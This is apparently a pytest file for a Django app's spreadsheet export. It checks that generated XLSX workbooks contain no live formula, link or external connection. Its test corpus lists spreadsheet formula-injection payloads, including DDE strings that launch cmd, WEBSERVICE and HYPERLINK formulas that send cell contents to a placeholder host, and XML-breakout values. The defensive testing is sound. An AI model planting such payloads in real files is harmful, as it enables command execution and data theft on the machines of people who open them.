"""Whatever is typed, a workbook that Relais makes holds no live formula, and gives the text back as it was typed."""

import re
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from impact.exports.report import xlsx
from tests.crm.factories import OrganisationFactory
from tests.engagements.factories import EngagementFactory
from tests.impact.factories import (
    BaselineFactory,
    IndicatorFactory,
    MeasurementFactory,
    MetricFactory,
    publish_as_read,
)

pytestmark = [pytest.mark.large, pytest.mark.one_database, pytest.mark.django_db]
CORPUS = [
    "=1+1",
    "==1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    ";=1+1",
    '"=1+1"',
    "'=1+1",
    "{=1+1}",
    "%0A=1+1",
    "|calc",
    '=HYPERLINK("http://x.example?"&A1;"Click")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x.example","//a")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=MSEXCEL|'\\..\\cmd.exe'!x",
    "http://x.example/",
    "mailto:x@x.example",
    "internal:Figures!A1",
    "external:c:\\x.xlsx",
    "ftp://x.example",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1+1</f>",
    "&lt;f&gt;1+1",
    "_x003D_1+1",
    "\x01=1+1",
    "=1+1🎉",
]
TEXTS = [pytest.param(text, id=f"{number:02}") for number, text in enumerate(CORPUS)]


@pytest.fixture
def report_of(member, coordinator):
    def report_of(text):
        engagement = EngagementFactory(
            member=member, title=text, beneficiary=OrganisationFactory(name=f"{text} ", siren=None)
        )
        indicator = IndicatorFactory(
            name_fr=text, name_en=text, unit_fr=text[:40], unit_en=text[:40]
        )
        indicator.definition_fr = indicator.definition_en = text
        indicator.save()
        metric = MetricFactory(
            engagement=engagement, indicator=indicator, caveat_fr=text, caveat_en=text
        )
        BaselineFactory(metric=metric, source=text, note_fr=text, note_en=text)
        MeasurementFactory(metric=metric, source=text, note_fr=text, note_en=text)
        report = publish_as_read(engagement, by=coordinator, today=timezone.localdate())
        report.word_agrees, report.word_comment, report.word_on = False, text, timezone.localdate()
        return report

    return report_of


def parts_of(content):
    with ZipFile(BytesIO(content)) as packed:
        return {
            name: packed.read(name).decode()
            for name in packed.namelist()
            if name.endswith((".xml", ".rels"))
        }


def assert_dead(content):
    """No formula, no link, nothing that is fetched: every text lies in the shared texts or is a number."""
    parts = parts_of(content)
    sheets = "".join(part for name, part in parts.items() if "/worksheets/sheet" in name)
    assert not re.search(r"<f[ >/]|<hyperlink|t=\"str\"", sheets)
    assert "TargetMode" not in "".join(parts.values())
    assert not [
        name
        for name in parts
        if re.search("external|connections|queryTable|vba", name, re.IGNORECASE)
    ]


@pytest.mark.parametrize("text", TEXTS)
def test_a_report_as_a_workbook(report_of, text):
    content, _kind = xlsx.file_of(report_of(text))

    assert_dead(content)
    book = CalamineWorkbook.from_filelike(BytesIO(content))
    cells = [
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
    ]
    assert sum(bare(cell) == bare(text) for cell in cells) >= 5


def bare(cell):
    """A spreadsheet keeps a line break one way only, and none of the control letters."""
    return re.sub(r"[\s\x00-\x1f]+|_x000[0-9A-F]_", "", str(cell))


@pytest.mark.parametrize("text", TEXTS)
def test_the_workbook_to_fill(client, coordinator, member, text):
    indicator = IndicatorFactory(name_fr=text, name_en=text)
    metric = MetricFactory(engagement__member=member, indicator=indicator)
    client.force_login(coordinator)

    content = client.get(
        reverse("impact:measurement-template", args=[metric.engagement_id])
    ).content

    assert_dead(content)
